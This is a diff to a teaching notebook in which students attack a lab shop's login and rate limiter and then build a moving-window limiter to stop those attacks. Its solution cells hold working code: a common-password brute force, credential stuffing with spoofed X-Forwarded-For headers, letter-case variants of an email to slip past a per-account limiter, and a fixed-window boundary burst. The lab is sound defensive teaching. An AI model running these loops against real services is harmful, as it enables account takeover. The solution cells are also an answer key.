@@ -70,20 +70,27 @@ lab
 # ## Attack 1 — guess carol's password
 #
 # carol is the one account whose password you do not know (`lab.users` lists the others). The
-# shop's login has no limit at all. `bruteforce.brute_force` tries a wordlist — the 300 most
-# common passwords — until one logs in or the server says 429. Store her password in
-# `carol_password`.
+# shop's login has no limit at all. Write the guessing loop yourself with `lab.client` (an
+# `httpx.Client`): `POST /api/auth/login` with `{"email": ..., "password": ...}` for each word of
+# the wordlist — the 300 most common passwords — and stop at the first 200 (or at a 429: then
+# someone is counting). Store her password in `carol_password`.
 
 # %% labkit={"answer": "brute-force"}
 words = common_passwords(300)
 ### BEGIN SOLUTION
-found = bruteforce.brute_force(lab.client, "carol@example.com", words, progress=True)
-carol_password = found.password
-### STUB
-found = None  # TODO: bruteforce.brute_force(lab.client, "carol@example.com", words)
 carol_password = None
+for tries, word in enumerate(words, 1):
+    response = lab.client.post(
+        "/api/auth/login", json={"email": "carol@example.com", "password": word}
+    )
+    if response.status_code in (200, 429):
+        carol_password = word if response.status_code == 200 else None
+        print(f"{tries} guesses: {response.status_code}")
+        break
+### STUB
+carol_password = None  # TODO: try each word as carol's password until one logs in
 ### END SOLUTION
-found
+carol_password
 
 # %% labkit={"check": "brute-force"}
 lab.check("brute-force", carol_password)
@@ -106,15 +113,34 @@ statuses
 
 # %% [markdown]
 # Now look at how staging decides *who you are*: it reads `X-Forwarded-For` — from anyone,
-# taking the first entry. So send a different address with every request
-# (`rotate_ip=True` picks random documentation addresses from RFC 5737). Store the pairs that
-# log in in `stuffed`.
+# taking the first entry. So send each pair once, with a different address in an
+# `X-Forwarded-For` header every time (pick random documentation addresses from RFC 5737, e.g.
+# `203.0.113.1`–`203.0.113.254`: they belong to no one). Store the pairs that log in in
+# `stuffed`, a list of `(email, password)`.
 
 # %% labkit={"answer": "credential-stuffing"}
+import random
+from collections import Counter
+
+
+def fake_ip() -> str:
+    """A random address from 203.0.113.0/24 (RFC 5737: documentation only)."""
+    return f"203.0.113.{random.randint(1, 254)}"
+
+
 ### BEGIN SOLUTION
-stuffed, statuses = bruteforce.stuff_credentials(staging, leak, rotate_ip=True)
+stuffed, statuses = [], Counter()
+for email, password in leak:
+    response = staging.post(
+        "/api/auth/login",
+        json={"email": email, "password": password},
+        headers={"X-Forwarded-For": fake_ip()},
+    )
+    statuses[response.status_code] += 1
+    if response.status_code == 200:
+        stuffed.append((email, password))
 ### STUB
-stuffed, statuses = [], None  # TODO: stuff the leak with a fresh X-Forwarded-For each time
+stuffed, statuses = [], Counter()  # TODO: try each leaked pair once, each from a new address
 ### END SOLUTION
 print(statuses)
 stuffed
@@ -135,18 +161,38 @@ bruteforce.brute_force(staging, "carol@example.com", words, rotate_ip=True)
 
 # %% [markdown]
 # But the login finds `Carol@Example.com` just as well (emails are compared without case),
-# while the limiter counts attempts per account *as typed*. Add `vary_case=True` and store
-# carol's staging password in `staging_password`.
+# while the limiter counts attempts per account *as typed*. Write `attack(client)`: your
+# guessing loop from Attack 1 over `words`, now with a fresh `X-Forwarded-For` on every guess
+# **and** a new spelling of carol's email (random upper/lower case) at least every 4 guesses,
+# returning the password that logs in — or `None` when the loop ends or a 429 stops it. Store
+# carol's staging password in `staging_password`. (You will replay this very function
+# against your own limiter at the end.)
+
 
 # %% labkit={"answer": "case-variants"}
-### BEGIN SOLUTION
-found = bruteforce.brute_force(staging, "carol@example.com", words, rotate_ip=True, vary_case=True)
-staging_password = found.password
-### STUB
-found = None  # TODO: brute_force(..., rotate_ip=True, vary_case=True)
-staging_password = None
-### END SOLUTION
-found
+def attack(client) -> str | None:
+    """Guess carol's password on ``client``'s shop; the password, or None if stopped."""
+    ### BEGIN SOLUTION
+    for word in words:
+        email = "".join(c.upper() if random.random() < 0.5 else c for c in "carol@example.com")
+        response = client.post(
+            "/api/auth/login",
+            json={"email": email, "password": word},
+            headers={"X-Forwarded-For": fake_ip()},
+        )
+        if response.status_code == 200:
+            return word
+        if response.status_code == 429:
+            print("stopped by a 429, Retry-After:", response.headers.get("retry-after"))
+            return None
+    return None
+    ### STUB
+    return None  # TODO: Attack 1's loop, with a new X-Forwarded-For and a new spelling of the email
+    ### END SOLUTION
+
+
+staging_password = attack(staging)
+staging_password
 
 # %% labkit={"check": "case-variants"}
 lab.check("case-variants", staging_password)
@@ -190,19 +236,44 @@ for name, count in allowed.items():
 # Staging counts in **fixed windows**: a counter that starts with your first request and is
 # forgotten when the window ends. `/api/_lab/burst` is `/api/v1/items` with the window shrunk to
 # 1 second (10 requests per second), so you need not wait a minute. Spend most of the quota just
-# before the boundary and a full quota just after it. Register an API client first and send its
-# key; hand in that key as `burst_key`.
+# before the boundary and a full quota just after it: one request opens the window, wait half
+# a second (`time.sleep`), send 9 more; then keep asking until the server lets one through again
+# (the boundary: it started counting when *it* saw your first request) and send 9 more at once.
+# Record `(seconds since the first request, status)` for every request in `events`: the plot
+# below draws them. Send the API key below as `X-API-Key`; hand in that key as `burst_key`.
 
 # %% labkit={"answer": "window-burst"}
 burst_key = staging.post("/api/_lab/api-clients").json()["apiKey"]
-### BEGIN SOLUTION
-events = bruteforce.boundary_burst(
-    staging, "/api/_lab/burst", limit=10, window=1, headers={"X-API-Key": burst_key}
-)
-### STUB
-events = []  # TODO: bruteforce.boundary_burst(staging, "/api/_lab/burst", ...)
-### END SOLUTION
-print(f"at most {bruteforce.allowed_per_window(events, 1)} requests allowed within 1 s (limit 10)")
+import time
+
+
+def burst(client, api_key: str) -> list[tuple[float, int]]:
+    """10 requests late in one 1-second window and 10 right after its boundary."""
+    ### BEGIN SOLUTION
+    events, start = [], time.monotonic()
+
+    def send() -> int:
+        status = client.get("/api/_lab/burst", headers={"X-API-Key": api_key}).status_code
+        events.append((time.monotonic() - start, status))
+        return status
+
+    send()  # opens the window
+    time.sleep(0.5)
+    for _ in range(9):
+        send()
+    time.sleep(max(0.0, 1.0 - (time.monotonic() - start)))
+    while send() == 429 and time.monotonic() - start < 2.0:  # the window is still on
+        time.sleep(0.02)
+    for _ in range(9):
+        send()
+    return events
+    ### STUB
+    return []  # TODO: (seconds since start, status) for every request you sent
+    ### END SOLUTION
+
+
+events = burst(staging, burst_key)
+print(sum(status != 429 for _, status in events), "of", len(events), "requests allowed")
 
 # %% labkit={"check": "window-burst"}
 lab.check("window-burst", burst_key)
@@ -225,6 +296,7 @@ def plot_allowed(runs: dict, limit: int = 10, window: float = 1.0) -> None:
     plt.show()
 
 
+print(f"at most {bruteforce.allowed_per_window(events, 1)} requests allowed within 1 s (limit 10)")
 plot_allowed({"fixed window (staging)": events})
 
 # %% [markdown]
@@ -381,10 +453,7 @@ except Exception as exc:  # new_limiter not written yet
     print(f"(your limiter could not start: {exc})")
 else:
     with bruteforce.client_from(fixed_app.url) as mine:
-        key = mine.post("/api/_lab/api-clients").json()["apiKey"]
-        moving = bruteforce.boundary_burst(
-            mine, "/api/_lab/burst", limit=10, window=1, headers={"X-API-Key": key}
-        )
+        moving = burst(mine, mine.post("/api/_lab/api-clients").json()["apiKey"])
 plot_allowed({"fixed window (staging)": events, "moving window (yours)": moving})
 
 # %% [markdown]
@@ -406,6 +475,31 @@ lab.check(
     new_limiter=new_limiter,
     rate_limit_headers=rate_limit_headers,
 )
+
+# %% [markdown]
+# ## Your own attack, against your limiter
+#
+# `attack` from Attack 3 — fresh addresses, new spellings — cracked staging. Here it runs
+# unchanged against the shop with your four functions (the same wordlist, and carol's password
+# is in it):
+
+# %%
+try:
+    fixed_app = lab.patched(
+        client_ip=client_ip,
+        login_keys=login_keys,
+        new_limiter=new_limiter,
+        rate_limit_headers=rate_limit_headers,
+    )
+except Exception as exc:  # a fix not written yet
+    print(f"(your limiter could not start: {exc})")
+else:
+    if staging_password is None:
+        print("write attack() in Attack 3 first")
+    else:
+        with bruteforce.client_from(fixed_app.url) as mine:
+            replayed = attack(mine)
+        print("your exploit from Attack 3:", "still logs in!" if replayed else "now refused")
 
 # %% [markdown]
 # ## Recap
